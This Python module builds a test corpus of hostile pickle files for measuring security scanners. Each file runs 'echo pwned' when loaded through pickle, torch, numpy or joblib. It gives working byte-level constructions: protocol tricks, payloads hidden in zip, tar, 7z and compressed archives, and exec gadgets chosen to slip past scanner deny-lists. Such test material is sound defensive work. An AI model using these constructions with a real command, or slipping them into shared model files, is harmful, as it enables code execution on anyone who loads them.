"""A corpus of hostile pickle files, each of which runs ``echo pwned`` when loaded the way its format is loaded
(``pickle.load``, ``torch.load(weights_only=False)``, ``numpy.load(allow_pickle=True)``, ``joblib.load``) or
hides such a pickle inside an archive. Built from bytes here (never by unpickling), for measuring scanners.

Each case is a function writing one file into a folder and returning its path; :data:`CASES` maps the case
name to ``(builder, what it tests)``. The payload command is harmless (``echo``) but nothing here is ever loaded.
"""

from __future__ import annotations

import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

COMMAND = "echo pwned"


def _reduce(module: str, name: str, *args: str, protocol: int = 4) -> bytes:
    """``module.name(*args)`` as a protocol-``protocol`` pickle (GLOBAL/STACK_GLOBAL, TUPLE, REDUCE, STOP)."""
    strings = b"".join(b"\x8c" + bytes([len(a)]) + a.encode() for a in args)  # SHORT_BINUNICODE each
    if protocol >= 4:
        head = b"\x80\x04" + b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + \
            name.encode() + b"\x93"  # STACK_GLOBAL
    else:
        head = b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL
    return head + b"(" + strings + b"tR."  # MARK, args, TUPLE, REDUCE, STOP


def _write(folder: Path, name: str, data: bytes) -> Path:
    (folder / name).write_bytes(data)
    return folder / name


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def plain_pickle(folder: Path) -> Path:
    return _write(folder, "plain.pkl", _reduce("os", "system", COMMAND))


def protocol0_inst(folder: Path) -> Path:
    return _write(folder, "inst.pkl", b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.")


def memo_stack_global(folder: Path) -> Path:
    """Module and name pushed, memoized, popped, then fetched back from the memo for STACK_GLOBAL."""
    body = b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93(\x8c\x0a" + COMMAND.encode() + b"tR."
    return _write(folder, "memo.pkl", body)


def stacked_pickles(folder: Path) -> Path:
    return _write(folder, "stacked.pkl", pickle.dumps({"weights": [1, 2, 3]}) + _reduce("os", "system", COMMAND))


def missing_stop(folder: Path) -> Path:
    """pickle.load runs the REDUCE, then fails on the missing STOP: the command has already run."""
    return _write(folder, "nostop.pkl", _reduce("os", "system", COMMAND)[:-1])


def torch_zip(folder: Path) -> Path:
    return _write(folder, "model.pt", _zip({"archive/data.pkl": _reduce("os", "system", COMMAND),
                                            "archive/version": b"3\n"}))


def torch_zip_other_member(folder: Path) -> Path:
    """torch.load reads the member ending in ``data.pkl`` whatever its folder; here it has no ``.pkl`` twin."""
    return _write(folder, "renamed.pt", _zip({"weights/data.pkl": pickle.dumps({}),
                                              "weights/extra/payload.bin": _reduce("os", "system", COMMAND)}))


def nested_zip(folder: Path) -> Path:
    inner = _zip({"archive/data.pkl": _reduce("os", "system", COMMAND)})
    return _write(folder, "nested.zip", _zip({"inner/model.zip": inner}))


def tar_archive(folder: Path) -> Path:
    buffer, payload = io.BytesIO(), _reduce("os", "system", COMMAND)
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return _write(folder, "model.tar", buffer.getvalue())


def numpy_object_array(folder: Path) -> Path:
    """A ``.npy`` file of dtype object: its data is a pickle that ``numpy.load(allow_pickle=True)`` runs."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    prefix = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    return _write(folder, "array.npy", prefix + _reduce("os", "system", COMMAND, protocol=3))


def joblib_file(folder: Path) -> Path:
    return _write(folder, "model.joblib", _reduce("os", "system", COMMAND))


def numpy_runstring(folder: Path) -> Path:
    """An exec gadget outside the usual deny-lists: numpy.testing's runstring(code, namespace)."""
    code = f"__import__('os').system('{COMMAND}')"
    body = _reduce("numpy.testing._private.utils", "runstring", code)[:-3] + b"}tR."  # add an empty dict arg
    return _write(folder, "runstring.pkl", body)


def pydoc_pipepager(folder: Path) -> Path:
    """pydoc.pipepager(text, cmd) pipes text into a shell command."""
    return _write(folder, "pipepager.pkl", _reduce("pydoc", "pipepager", "x", COMMAND))


def cprofile_run(folder: Path) -> Path:
    """cProfile.run(code) execs its argument: a gadget outside compsec's deny-list (it only warns)."""
    return _write(folder, "cprofile.pkl", _reduce("cProfile", "run", f"__import__('os').system('{COMMAND}')"))


def _joblib_compressed(folder: Path, name: str, compress) -> Path:
    """What ``joblib.dump(obj, path, compress=...)`` writes: the pickle through a compressed stream."""
    return _write(folder, name, compress(_reduce("os", "system", COMMAND)))


def gzip_joblib(folder: Path) -> Path:
    return _joblib_compressed(folder, "model-gzip.joblib", gzip.compress)


def xz_joblib(folder: Path) -> Path:
    return _joblib_compressed(folder, "model-xz.joblib", lzma.compress)


def zlib_joblib(folder: Path) -> Path:
    return _joblib_compressed(folder, "model-zlib.joblib", zlib.compress)


def seven_zip(folder: Path) -> Path:
    """A pickle inside a 7z archive (built with py7zr, the ``scanners`` extra)."""
    import py7zr

    path = folder / "model.7z"
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(_reduce("os", "system", COMMAND), "archive/data.pkl")
    return path


CASES = {
    "plain os.system pickle": (plain_pickle, "baseline"),
    "protocol 0 INST": (protocol0_inst, "protocol trick"),
    "memoized STACK_GLOBAL": (memo_stack_global, "protocol trick"),
    "benign pickle then hostile one": (stacked_pickles, "protocol trick"),
    "no STOP opcode": (missing_stop, "protocol trick"),
    "torch zip data.pkl": (torch_zip, "baseline"),
    "torch zip payload in a .bin member": (torch_zip_other_member, "archive trick"),
    "zip inside a zip": (nested_zip, "archive trick"),
    "tar archive": (tar_archive, "archive trick"),
    "numpy object .npy": (numpy_object_array, "other format"),
    ".joblib pickle": (joblib_file, "other format"),
    "numpy runstring gadget": (numpy_runstring, "deny-list gap"),
    "pydoc pipepager gadget": (pydoc_pipepager, "deny-list gap"),
    "cProfile.run gadget": (cprofile_run, "deny-list gap"),
    "gzip-compressed joblib": (gzip_joblib, "compression trick"),
    "xz-compressed joblib": (xz_joblib, "compression trick"),
    "zlib-compressed joblib": (zlib_joblib, "compression trick"),
    "pickle in a 7z archive": (seven_zip, "archive trick"),
}
